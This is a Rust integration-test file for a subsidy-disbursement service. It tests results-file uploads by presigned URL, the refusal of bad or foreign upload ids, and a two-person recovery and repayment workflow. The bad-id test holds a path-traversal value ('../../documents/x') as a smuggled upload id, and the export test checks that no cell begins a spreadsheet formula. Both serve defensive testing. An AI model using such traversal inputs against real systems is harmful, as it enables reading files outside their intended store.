    for r in &ours {
        assert_eq!(r[2], format!("'{name}"));
        assert_eq!((r[4].as_str(), r[5].as_str()), ("'@开户银行", "'-户名"));
        assert!(estates.iter().any(|e| r[9] == format!("'{e}")), "{r:?}");
        assert!(!r[7].starts_with('\''), "the amount stays a number: {r:?}");
    }
    // No cell of the file begins a formula, and the totals still add up.
    for r in &rows {
        for cell in r {
            assert!(!cell.starts_with(subsidy_core::sheet::FORMULA_STARTS), "{cell:?} in {r:?}");
        }
    }
    let cents = |s: &str| s.replace('.', "").parse::<i64>().unwrap();
    assert_eq!(rows[5..].iter().map(|r| cents(&r[7])).sum::<i64>(), cents(&rows[2][1]));
}

/// A results file too large to post goes to the exports store through a
/// presigned upload and is imported by its id: checked whole, settled by
/// the request and then the batch queue from the very object uploaded
/// (no second copy), and importing it again changes nothing.
#[tokio::test]
async fn an_uploaded_results_file_is_imported_by_its_id_like_a_posted_one() {
    let app = TestApp::spawn().await;
    let finance = app.login("finance-futian").await;
    let (id, b, ls) = long_released_batch(&app, &finance).await;
    let rows: Vec<(&str, &str, &str)> = ls
        .iter()
        .enumerate()
        .map(|(i, l)| {
            (l["id"].as_str().unwrap(), if i == 2 { "失败" } else { "成功" }, if i == 2 { "户名不符" } else { "" })
        })
        .collect();
    let total = b["total"]["yuan"].as_str().unwrap();

    // A wrong total: refused whole from the upload too, nothing settled.
    let r = upload_results(&app, &finance, &id, result_file(&id, &rows, "0.01").as_bytes()).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);
    app.drain().await;
    assert!(lines(&finance, &id).await.iter().all(|l| l["status"] == "pending"), "nothing settled");

    let file = result_file(&id, &rows, total);
    let ticket = results_ticket(&finance, &id, file.len()).await;
    assert_eq!(ticket.status.as_u16(), 201, "{}", ticket.body);
    assert_eq!(ticket.body["maxSize"], subsidy_core::payout::MAX_RESULT_FILE);
    let put = app.presigned(&ticket.body["upload"], file.as_bytes()).await;
    assert!(put.status.is_success(), "{}", put.body);
    // The URL stores bytes once: a second PUT cannot swap the file.
    let again = app.presigned(&ticket.body["upload"], file.as_bytes()).await;
    assert!(again.status.is_client_error(), "a second PUT to the upload: {}", again.status);
    let by_id = json!({"uploadId": ticket.body["uploadId"]});
    let r = finance.post(&format!("/api/v1/batches/{id}/results/import"), by_id.clone()).await;
    assert_eq!(r.status.as_u16(), 202, "{}", r.body);
    app.drain().await;
    let done = finance.get(&format!("/api/v1/batches/{id}")).await.ok();
    assert_eq!(
        (done["state"].as_str(), done["paidCount"].as_u64(), done["failedCount"].as_u64()),
        (Some("reconciled"), Some(6), Some(1)),
        "{done}"
    );
    if !aws_backend() {
        // The queue settled from the uploaded object: the two uploads are
        // the only results files kept.
        let kept = std::fs::read_dir(app.data_dir().join(format!("blobs/exports/batches/{id}")))
            .unwrap()
            .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().starts_with("results-"))
            .count();
        assert_eq!(kept, 2, "no copy of an uploaded file");
    }
    // Imported again, by id or posted: nothing changes.
    let r = finance.post(&format!("/api/v1/batches/{id}/results/import"), by_id).await;
    assert_eq!((r.status.as_u16(), &r.body["version"]), (200, &done["version"]), "{}", r.body);
    let r = import(&app, &finance, &id, &file).await;
    assert_eq!((r.status.as_u16(), &r.body["version"]), (200, &done["version"]), "{}", r.body);
}

/// Every way around the upload path is refused with a clear 4xx and
/// nothing settled: a size out of range, a malformed id, an id never
/// uploaded, another batch's upload, bytes that are not UTF-8, a batch not
/// yet released, another district, a company; and a posted body over the
/// limit an API Gateway request can carry.
#[tokio::test]
async fn results_uploads_refuse_bad_sizes_ids_other_batches_and_strangers() {
    let app = TestApp::spawn().await;
    approved_applications(&app, 1).await;
    let (a, a_lines) = released_batch(&app).await;
    let company = app.login("company-a").await;
    approved_projects(&app, &company, &["第二批项目".to_string()]).await;
    let (b, _) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let max = subsidy_core::payout::MAX_RESULT_FILE;

    for (size, status, code) in [
        (json!(0), 422, "invalid_field"),
        (json!(-1), 422, "invalid_field"),
        (json!(max + 1), 422, "invalid_field"),
        (json!(null), 422, "invalid_field"),
        (json!("12"), 400, "invalid_type"),
    ] {
        let r = finance.post(&format!("/api/v1/batches/{a}/results/upload"), json!({ "size": size })).await;
        assert_eq!((r.status.as_u16(), r.code()), (status, code), "size {size}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "size", "size {size}");
    }
    let r = finance.post(&format!("/api/v1/batches/{a}/results/upload"), json!({"size": 10, "key": "x"})).await;
    assert_eq!((r.status.as_u16(), r.code()), (400, "unknown_field"), "{}", r.body);

    let import_by = |batch: &str, upload_id: Value| {
        let path = format!("/api/v1/batches/{batch}/results/import");
        let finance = &finance;
        async move { finance.post(&path, json!({ "uploadId": upload_id })).await }
    };
    for (bad, status, code) in [
        (json!("../../documents/x"), 422, "invalid_field"),
        (json!("not-an-id"), 422, "invalid_field"),
        (json!(""), 422, "invalid_field"),
        (json!(null), 422, "invalid_field"),
        (json!(7), 400, "invalid_type"),
    ] {
        let r = import_by(&a, bad.clone()).await;
        assert_eq!((r.status.as_u16(), r.code()), (status, code), "uploadId {bad}: {}", r.body);
        assert_eq!(r.body["error"]["field"], "uploadId", "uploadId {bad}");
    }
    // A well-formed id that names no upload of this batch.
    let r = import_by(&a, json!(ulid::Ulid::new().to_string())).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);

    // Uploaded for batch B, imported into batch A: A has no such upload.
    let file = result_file(
        &a,
        &[(a_lines[0]["id"].as_str().unwrap(), "成功", "")],
        a_lines[0]["amount"]["yuan"].as_str().unwrap(),
    );
    let ticket = results_ticket(&finance, &b, file.len()).await.ok();
    assert!(app.presigned(&ticket["upload"], file.as_bytes()).await.status.is_success());
    let r = import_by(&a, ticket["uploadId"].clone()).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);
    // Into B, it is B's upload, but the file is A's: refused whole.
    let r = import_by(&b, ticket["uploadId"].clone()).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "results_refused"), "{}", r.body);

    // Bytes that are not UTF-8 (a GBK export, say).
    let gbk = b"\xc5\xfa\xb4\xce\xba\xc5,x\n".to_vec();
    let r = upload_results(&app, &finance, &a, &gbk).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "invalid_field"), "{}", r.body);
    assert_eq!(r.body["error"]["field"], "file");
    // Posted, the same answer (one check in core for both paths).
    let r = app.raw(finance.token.as_deref(), "POST", &format!("/api/v1/batches/{a}/results"), "text/csv", gbk).await;
    assert_eq!((r.status.as_u16(), r.code()), (422, "invalid_field"), "{}", r.body);
    assert_eq!(r.body["error"]["field"], "file");

    // Strangers: another district's finance and a company see no batch;
    // the batch's own checker may import, as for a posted file.
    let other = app.login("finance-dapeng").await;
    results_ticket(&other, &a, 10).await.expect(404, "not_found");
    other
        .post(&format!("/api/v1/batches/{a}/results/import"), json!({"uploadId": ticket["uploadId"]}))
        .await
        .expect(404, "not_found");
    results_ticket(&company, &a, 10).await.expect(404, "not_found");

    // A batch not yet released has no results to import.
    approved_projects(&app, &company, &["第三批项目".to_string()]).await;
    let ready = finance.post("/api/v1/batches", json!({})).await.ok();
    let ready_id = ready["id"].as_str().unwrap();
    results_ticket(&finance, ready_id, 10).await.expect(409, "wrong_state");

    // A posted file over the API's limit: 413, and the answer says so.
    let limit = subsidy_core::payout::MAX_POSTED_RESULT_FILE;
    let big = vec![b'x'; limit + 1];
    let r = app.raw(finance.token.as_deref(), "POST", &format!("/api/v1/batches/{a}/results"), "text/csv", big).await;
    assert_eq!((r.status.as_u16(), r.code()), (413, "body_too_large"), "{}", r.body);

    assert!(lines(&finance, &a).await.iter().all(|l| l["status"] == "pending"), "nothing settled in A");
    assert!(lines(&finance, &b).await.iter().all(|l| l["status"] == "pending"), "nothing settled in B");
}

/// The local blob endpoint holds a results upload to what it was signed
/// for, as S3 does: another content type or length is refused before
/// anything is stored, and the signed request stores once. (moto checks no
/// signatures; on AWS, S3 refuses a header that differs from the signed one.)
#[tokio::test]
async fn a_results_upload_url_stores_only_the_signed_type_and_length() {
    let app = TestApp::spawn_standalone().await;
    approved_applications(&app, 1).await;
    let (a, _) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let file = b"\xef\xbb\xbf\xe6\x89\xb9\xe6\xac\xa1\xe5\x8f\xb7,x\n".to_vec();
    let ticket = results_ticket(&finance, &a, file.len()).await.ok();
    let url = ticket["upload"]["url"].as_str().unwrap();
    let r = app.raw(None, "PUT", url, "text/html", file.clone()).await;
    assert_eq!((r.status.as_u16(), r.code()), (403, "signature_mismatch"), "another type");
    let r = app.raw(None, "PUT", url, "text/csv", [file.as_slice(), b"extra"].concat()).await;
    assert_eq!((r.status.as_u16(), r.code()), (403, "signature_mismatch"), "another length");
    let r = app.raw(None, "PUT", url, "application/pdf", file.clone()).await;
    assert_eq!((r.status.as_u16(), r.code()), (403, "signature_mismatch"), "a document type");
    let stored = std::fs::read_dir(app.data_dir().join(format!("blobs/exports/batches/{a}")))
        .map(|d| d.filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().starts_with("results-")).count())
        .unwrap_or(0);
    assert_eq!(stored, 0, "nothing stored by a refused upload");
    let r = app.raw(None, "PUT", url, "text/csv", file.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.body);
    let r = app.raw(None, "PUT", url, "text/csv", file).await;
    assert_eq!((r.status.as_u16(), r.code()), (409, "already_uploaded"));
}

/// 追回 from opening to 已追回: a district reviewer opens a recovery on a
/// paid application, a second person in finance confirms it, finance
/// records partial repayments until nothing is owed; the live totals, the
/// 汇总表 and the budget count what was recovered. And every way around
/// it is refused with nothing changed: above what was paid, on an unpaid
/// application, confirmed by its opener (who also holds finance), a repayment before confirmation or
/// above what is owed, another district's finance, a company.
#[tokio::test]
async fn a_recovery_is_opened_confirmed_by_a_second_person_and_repaid_in_parts() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 2).await;
    let (batch, ls) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let paid_line = ls.iter().find(|l| l["applicationId"] == ids[0].as_str()).unwrap();
    let file = result_file(
        &batch,
        &[(paid_line["id"].as_str().unwrap(), "成功", "")],
        paid_line["amount"]["yuan"].as_str().unwrap(),
    );
    import(&app, &finance, &batch, &file).await.ok();
    app.drain().await;
    let district = app.login("district-futian").await;
    let paid = district.application(&ids[0]).await;
    assert_eq!(paid["state"], "paid");
    let paid_fen = paid["approvedAmountFen"].as_i64().unwrap();
    let city = app.login("city").await;
    let before = city.get("/api/v1/stats/440304").await.ok();
    let budget_before = finance.get("/api/v1/disbursement/budget").await.ok();
    let open = format!("/api/v1/review/district/applications/{}/open-recovery", ids[0]);
    let v = paid["version"].as_u64().unwrap();

    // Refused, nothing changed.
    let above = subsidy_core::money::format_hundredths(paid_fen + 1);
    district
        .post(&open, json!({"version": v, "amount": above, "reason": "面积不实"}))
        .await
        .expect(422, "invalid_field");
    district
        .post(&open, json!({"version": v, "amount": "0.00", "reason": "面积不实"}))
        .await
        .expect(422, "invalid_field");
    district.post(&open, json!({"version": v, "amount": "100.00", "reason": ""})).await.expect(422, "invalid_field");
    let unpaid = district.application(&ids[1]).await;
    district
        .post(
            &format!("/api/v1/review/district/applications/{}/open-recovery", ids[1]),
            json!({"version": unpaid["version"], "amount": "1.00", "reason": "面积不实"}),
        )
        .await
        .expect(409, "wrong_state");
    app.login("community-nanyuan")
        .await
        .post(&open.replace("/district/", "/community/"), json!({"version": v, "amount": "1.00", "reason": "x"}))
        .await
        .expect(404, "no_route");
    app.login("company-a")
        .await
        .post(&open, json!({"version": v, "amount": "1.00", "reason": "x"}))
        .await
        .expect(404, "not_found");
    assert_eq!(district.application(&ids[0]).await["version"], v, "nothing changed");

    // Opened for 300.00 of the 1,000.00 paid, by a staff member who also
    // holds finance in the district: acting as finance, they still cannot
    // be the second person for their own recovery.
    app.services
        .directory()
        .seed(
            "recovery-two-hats",
            "两岗",
            &[(subsidy_core::identity::Role::District, "440304"), (subsidy_core::identity::Role::Finance, "440304")],
        )
        .await
        .unwrap();
    let two_hats = app.token(json!({"sub": "recovery-two-hats"}));
    let as_ = |who: &'static str| [("x-acting-as", who)];
    let body = json!({"version": v, "amount": "300.00", "reason": "重复申报，面积不实"});
    let opened = app.call(Some(&two_hats), "POST", &open, Some(body), &as_("district:440304")).await.ok();
    assert_eq!(opened["recovery"]["status"], "awaiting_confirmation");
    assert_eq!(opened["recovery"]["owed"], "300.00");
    district
        .post(&open, json!({"version": opened["version"], "amount": "1.00", "reason": "再开"}))
        .await
        .expect(409, "wrong_state");
    let v = opened["version"].as_u64().unwrap();
    // The district's finance is told, to find it; another district's is not.
    app.drain().await;
    let told = finance.get("/api/v1/notifications").await.ok();
    let notice = told["items"].as_array().unwrap().iter().find(|n| n["kind"] == "recovery_opened").expect("told");
    assert_eq!(
        (notice["applicationId"].as_str(), notice["params"]["amount"].as_str()),
        (Some(ids[0].as_str()), Some("300.00"))
    );
    let elsewhere = app.login("finance-dapeng").await.get("/api/v1/notifications").await.ok();
    assert!(!elsewhere.to_string().contains("recovery_opened"), "{elsewhere}");

    // Repayments wait for the confirmation; the opener may not confirm (a
    // district reviewer is not finance at all); another district's finance
    // does not see it; the second person does.
    let repay = format!("/api/v1/disbursement/applications/{}/repayments", ids[0]);
    let confirm = format!("/api/v1/disbursement/applications/{}/confirm-recovery", ids[0]);
    finance
        .post(&repay, json!({"version": v, "date": "2020-06-01", "amount": "1.00", "bankReference": "HK001"}))
        .await
        .expect(409, "wrong_state");
    district.post(&confirm, json!({"version": v})).await.expect(404, "not_found");
    let other = app.with_token(&app.staff_token("finance-longgang-recovery", "finance", "440307").await);
    other.post(&confirm, json!({"version": v})).await.expect(404, "not_found");
    app.call(Some(&two_hats), "POST", &confirm, Some(json!({"version": v})), &as_("finance:440304"))
        .await
        .expect(409, "maker_checker");
    assert_eq!(finance.application(&ids[0]).await["recovery"]["status"], "awaiting_confirmation", "nothing changed");
    let confirmed = finance.post(&confirm, json!({"version": v})).await.ok();
    assert_eq!(confirmed["recovery"]["status"], "recovering");
    finance.post(&confirm, json!({"version": confirmed["version"]})).await.expect(409, "wrong_state");
    let v = confirmed["version"].as_u64().unwrap();

    // Two partial repayments; one above what is owed is refused whole.
    let first = finance
        .post(&repay, json!({"version": v, "date": "2020-06-01", "amount": "100.00", "bankReference": "HK001"}))
        .await
        .ok();
    assert_eq!(
        (first["recovery"]["repaid"].as_str(), first["recovery"]["owed"].as_str()),
        (Some("100.00"), Some("200.00"))
    );
    let v = first["version"].as_u64().unwrap();
    for (body, field) in [
        (json!({"version": v, "date": "2020-06-02", "amount": "200.01", "bankReference": "HK002"}), "amount"),
        (json!({"version": v, "date": "2020-06-02", "amount": "-1.00", "bankReference": "HK002"}), "amount"),
        (json!({"version": v, "date": "6/2/2020", "amount": "1.00", "bankReference": "HK002"}), "date"),
        (json!({"version": v, "date": "2999-01-01", "amount": "1.00", "bankReference": "HK002"}), "date"),
        (json!({"version": v, "date": "2020-06-02", "amount": "1.00", "bankReference": " "}), "bankReference"),
    ] {
        let r = finance.post(&repay, body.clone()).await;
        assert_eq!((r.status.as_u16(), r.body["error"]["field"].as_str()), (422, Some(field)), "{body}: {}", r.body);
    }
    finance
        .post(&repay, json!({"version": v - 1, "date": "2020-06-02", "amount": "1.00", "bankReference": "HK002"}))
        .await
        .expect(409, "version_conflict");
    let done = finance
        .post(&repay, json!({"version": v, "date": "2020-06-02", "amount": "200.00", "bankReference": "HK002"}))
        .await
        .ok();
    assert_eq!(done["recovery"]["status"], "recovered");
    assert_eq!(done["recovery"]["owed"], "0.00");
    assert_eq!(done["recovery"]["repayments"].as_array().unwrap().len(), 2);
    finance
        .post(
            &repay,
            json!({"version": done["version"], "date": "2020-06-03", "amount": "0.01", "bankReference": "HK003"}),
        )
        .await
        .expect(409, "wrong_state");
    // The company sees 已追回 with the repayments.
    let seen = app.login("company-a").await.application(&ids[0]).await;
    assert_eq!(seen["recovery"]["status"], "recovered");

    // Totals: paid, recovered, net; the budget got 300.00 back.
    app.drain().await;
    let after = city.get("/api/v1/stats/440304").await.ok();
    let t = |v: &Value, k: &str| v["totals"][k].as_i64().unwrap();
    assert_eq!(t(&after, "paidAmountFen"), t(&before, "paidAmountFen"));
    assert_eq!(t(&after, "recoveredAmountFen") - t(&before, "recoveredAmountFen"), 30_000);
    assert_eq!(t(&after, "netPaidAmountFen"), t(&after, "paidAmountFen") - t(&after, "recoveredAmountFen"));
    assert_eq!((t(&after, "recovered"), t(&after, "recovering")), (1, 0));
    let budget = finance.get("/api/v1/disbursement/budget").await.ok();
    assert_eq!(fen(&budget["remaining"]) - fen(&budget_before["remaining"]), 30_000, "{budget}");
    assert_eq!(fen(&budget_before["paid"]) - fen(&budget["paid"]), 30_000, "paid is net of what came back");
    let csv = app
        .client
        .get(format!("{}/api/v1/stats/440304/report?format=csv", app.base))
        .bearer_auth(city.token.as_deref().unwrap())
        .send()
        .await
        .unwrap();
    let text = csv.text().await.unwrap();
    assert!(text.contains("已追回金额(元)") && text.contains("300.00"), "{text}");
    // The trail: opened, confirmed, two repayments.
    let timeline = district.get(&format!("/api/v1/applications/{}/timeline", ids[0])).await.ok();
    let actions: Vec<&str> = timeline.as_array().unwrap().iter().map(|e| e["action"].as_str().unwrap()).collect();
    for a in ["open_recovery", "confirm_recovery", "record_repayment"] {
        assert!(actions.contains(&a), "{actions:?}");
    }
    assert_eq!(actions.iter().filter(|a| **a == "record_repayment").count(), 2);
}

/// A recovery's evidence (追回依据): a district reviewer attaches it to a
/// paid application of their jurisdiction; the company sees it and cannot
/// remove it; nobody else may attach it, nor attach it to an unpaid one.
#[tokio::test]
async fn a_district_reviewer_attaches_a_recoverys_evidence_to_a_paid_application_only() {
    let app = TestApp::spawn().await;
    let ids = approved_applications(&app, 2).await;
    let (batch, ls) = released_batch(&app).await;
    let finance = app.login("finance-futian").await;
    let line = ls.iter().find(|l| l["applicationId"] == ids[0].as_str()).unwrap();
    let file =
        result_file(&batch, &[(line["id"].as_str().unwrap(), "成功", "")], line["amount"]["yuan"].as_str().unwrap());
    import(&app, &finance, &batch, &file).await.ok();
    app.drain().await;
    let district = app.login("district-futian").await;
    assert_eq!(district.application(&ids[0]).await["state"], "paid");

    let ticket = |kind: &str| json!({"kind": kind, "fileName": "核查报告.pdf", "contentType": "application/pdf", "size": PDF.len()});
    let docs = |id: &str| format!("/api/v1/applications/{id}/documents");
    // Refused: another role, another kind, an unpaid application.
    let company = app.login("company-a").await;
    company.post(&docs(&ids[0]), ticket("recovery_evidence")).await.expect(404, "not_found");
    app.login("community-nanyuan")
        .await
        .post(&docs(&ids[0]), ticket("recovery_evidence"))
        .await
        .expect(404, "not_found");
    finance.post(&docs(&ids[0]), ticket("recovery_evidence")).await.expect(404, "not_found");
    district.post(&docs(&ids[0]), ticket("service_contract")).await.expect(404, "not_found");
    district.post(&docs(&ids[1]), ticket("recovery_evidence")).await.expect(409, "wrong_state");
    let before = company.application(&ids[0]).await["documents"].as_array().unwrap().len();

    let uploaded = district.upload(&ids[0], "recovery_evidence", "application/pdf", PDF).await;
    assert!(uploaded.status.is_success(), "{}", uploaded.body);
    app.drain().await;
    let seen = company.application(&ids[0]).await;
    let docs_now = seen["documents"].as_array().unwrap();
    assert_eq!(docs_now.len(), before + 1);
    let evidence = docs_now.iter().find(|d| d["kind"] == "recovery_evidence").expect("the company sees it");
    assert_eq!(evidence["status"], "verified");
    let evidence_id = evidence["id"].as_str().unwrap();
    // The company may not remove it; the district's finance, who confirm
    // the recovery, may open it, and no other document of the application.
    company.delete(&format!("{}/{evidence_id}", docs(&ids[0]))).await.expect(404, "not_found");
    finance.get(&format!("{}/{evidence_id}", docs(&ids[0]))).await.ok();
    let contract = docs_now.iter().find(|d| d["kind"] == "service_contract").unwrap()["id"].as_str().unwrap();
    finance.get(&format!("{}/{contract}", docs(&ids[0]))).await.expect(404, "not_found");
    app.login("finance-dapeng").await.get(&format!("{}/{evidence_id}", docs(&ids[0]))).await.expect(404, "not_found");
    let trail = district.get(&format!("/api/v1/applications/{}/timeline", ids[0])).await.ok();
    assert!(
        trail.as_array().unwrap().iter().any(|e| e["action"] == "upload_document" && e["role"] == "district"),
        "the upload is on the trail: {trail}"
    );
}
